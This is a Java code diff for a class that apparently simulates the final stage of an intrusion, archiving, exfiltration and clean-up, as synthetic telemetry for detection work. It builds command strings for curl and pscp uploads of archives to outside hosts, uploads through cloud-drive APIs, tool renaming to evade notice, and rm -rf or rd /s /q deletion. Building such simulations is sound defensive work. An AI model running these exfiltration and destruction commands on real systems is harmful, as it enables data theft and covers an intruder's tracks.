@@ -1,6 +1,5 @@
 package org.stagewatch.simulation.attack;
 
-import java.util.List;
 import org.jspecify.annotations.Nullable;
 import org.stagewatch.simulation.chance.Dice;
 import org.stagewatch.simulation.chance.Words;
@@ -13,12 +12,13 @@ import org.stagewatch.simulation.story.Archiver;
 import org.stagewatch.simulation.story.Label;
 import org.stagewatch.simulation.story.Scene;
 
-/// What comes after the gathering: the archive, its way out, and the clean-up.
+/// What comes after the gathering: the archive, its way out, and the clean-up. The object itself is for Windows.
 final class Finish {
     private final Scene scene;
     private final Attack attack;
     private final Host host;
     private final Dice dice;
+    private final boolean isPacked;
     private final String archive;
     private final RunningProcess shell;
 
@@ -27,25 +27,34 @@ final class Finish {
         this.attack = attack;
         this.host = attack.place().host();
         this.dice = scene.dice();
-        Intrusion.phase(scene, attack, Label.Phase.ARCHIVE);
-        if (host.role().isWindows()) {
-            this.archive = attack.place().path() + "\\" + attack.tooling().archive();
-            this.shell = Intrusion.shell(scene, attack, host);
-        } else {
-            this.archive = attack.place().path() + "." + attack.tooling().archive();
-            this.shell = scene.running(
-                    host, Programs.BASH, Account.linux(host, attack.account().name()), "-bash");
-        }
+        this.isPacked = attack.style().profile().packing() == AttackProfile.Packing.AT_THE_PLACE;
+        this.archive = attack.place().path() + "\\"
+                + (isPacked
+                        ? attack.tooling().archive()
+                        : "*" + attack.tooling().archiveEnding());
+        this.shell = Intrusion.shell(scene, attack, host);
     }
 
     static void play(Scene scene, Attack attack) {
-        if (!attack.place().host().role().isManaged()) {
+        Host host = attack.place().host();
+        if (!host.role().isManaged()) {
             return;
         }
-        scene.minutes(1, attack.difficulty() == Difficulty.EASY ? 10 : 60);
+        Intrusion.phase(scene, attack, Label.Phase.ARCHIVE);
+        pause(scene, attack);
+        if (host.role().isWindows()) {
+            onWindows(scene, attack);
+        } else {
+            onUnix(scene, attack);
+        }
+    }
+
+    private static void onWindows(Scene scene, Attack attack) {
         Finish finish = new Finish(scene, attack);
-        finish.pack();
-        scene.minutes(1, attack.difficulty() == Difficulty.EASY ? 10 : 60);
+        if (finish.isPacked) {
+            finish.pack();
+        }
+        pause(scene, attack);
         Intrusion.phase(scene, attack, Label.Phase.EGRESS);
         finish.leave();
         if (attack.ending() == Attack.Ending.CLEANS_UP) {
@@ -55,18 +64,25 @@ final class Finish {
         }
     }
 
+    private static void onUnix(Scene scene, Attack attack) {
+        UnixFinish finish = new UnixFinish(scene, attack);
+        String packed = finish.pack();
+        pause(scene, attack);
+        Intrusion.phase(scene, attack, Label.Phase.EGRESS);
+        finish.leave(packed);
+        if (attack.ending() == Attack.Ending.CLEANS_UP) {
+            scene.minutes(2, 40);
+            Intrusion.phase(scene, attack, Label.Phase.CLEAN_UP);
+            finish.cleanUp(packed);
+        }
+    }
+
+    private static void pause(Scene scene, Attack attack) {
+        scene.minutes(1, attack.difficulty() == Difficulty.EASY ? 10 : 60);
+    }
+
     private void pack() {
         long size = dice.around(60_000_000, 0.8);
-        if (!host.role().isWindows()) {
-            RunningProcess tar = scene.start(
-                    host,
-                    shell,
-                    Programs.TAR,
-                    "tar " + dice.oneOf("czf ", "-cjf ", "-czpf ") + archive + " "
-                            + attack.place().path());
-            scene.seconds(3, 200).create(host, tar, archive, size);
-            return;
-        }
         Tooling tooling = attack.tooling();
         if (!archive.endsWith(tooling.archiver().ending()) && dice.chance(0.4)) {
             String first = archive.substring(0, archive.lastIndexOf('.'))
@@ -128,7 +144,7 @@ final class Finish {
                         dice.oneOf("g.api.mega.co.nz", "gfs270n071.userstorage.mega.co.nz"));
             case CURL ->
                 upload(
-                        host.role().isWindows() ? tool(Programs.CURL_WINDOWS) : Programs.CURL,
+                        tool(Programs.CURL_WINDOWS),
                         "curl " + dice.oneOf("-T ", "-F file=@", "--upload-file ") + archive + " https://"
                                 + dice.oneOf(site, address) + "/" + Words.shortName(dice),
                         address,
@@ -149,6 +165,23 @@ final class Finish {
                         address,
                         22,
                         null);
+            case PSCP ->
+                upload(
+                        tool(Programs.PSCP),
+                        "pscp -batch -pw " + dice.text("abcdefghkmnp23456789", 8) + " " + archive + " "
+                                + Words.shortName(dice) + "@" + address + ":/tmp/",
+                        address,
+                        22,
+                        null);
+            case CLOUD_DRIVE -> {
+                Program uploader = Intrusion.implant(dice);
+                upload(
+                        uploader,
+                        uploader.fileName() + " " + archive,
+                        address,
+                        443,
+                        dice.oneOf("content.dropboxapi.com", "graph.microsoft.com", "www.googleapis.com"));
+            }
             case WEB_DOWNLOAD -> {
                 RunningProcess worker = scene.running(
                         host, Programs.IIS_WORKER, Account.NETWORK_SERVICE, "w3wp.exe -ap \"DefaultAppPool\"");
@@ -168,25 +201,16 @@ final class Finish {
 
     /// A tool that came along lies where the intruder put it, under a name of its own when tools are renamed.
     private Program tool(Program program) {
-        if (attack.style() != AttackStyle.RENAMED_TOOLS && dice.chance(0.4)) {
+        if (attack.tooling().names() == Tooling.Names.TELLING && dice.chance(0.4)) {
             return program;
         }
-        String name = attack.style() == AttackStyle.RENAMED_TOOLS || dice.chance(0.2)
+        String name = attack.tooling().names() == Tooling.Names.INNOCENT || dice.chance(0.2)
                 ? Words.shortName(dice) + ".exe"
                 : program.fileName();
         return program.at(dice.oneOf(attack.place().path(), "C:\\ProgramData", "C:\\Users\\Public") + "\\" + name);
     }
 
     private void cleanUp() {
-        if (!host.role().isWindows()) {
-            scene.start(
-                    host,
-                    shell,
-                    Program.plain("/usr/bin/rm"),
-                    "rm -rf " + attack.place().path() + " " + archive);
-            scene.delete(host, shell, archive, 0);
-            return;
-        }
         RunningProcess eraser = scene.start(
                 host,
                 shell,
@@ -194,9 +218,10 @@ final class Finish {
                 dice.oneOf(
                         "cmd.exe /c rd /s /q \"" + attack.place().path() + "\"",
                         "cmd.exe /c del /f /q \"" + attack.place().path() + "\\*\""));
-        for (String name : List.of(archive, attack.place().path() + "\\" + Words.document(dice))) {
-            scene.delete(host, eraser, name, 0);
+        if (isPacked) {
+            scene.delete(host, eraser, archive, 0);
         }
+        scene.delete(host, eraser, attack.place().path() + "\\" + Words.document(dice), 0);
         if (attack.style() == AttackStyle.MAPPED_DRIVES) {
             scene.start(host, shell, Programs.NET, "net use * /delete /y");
         }
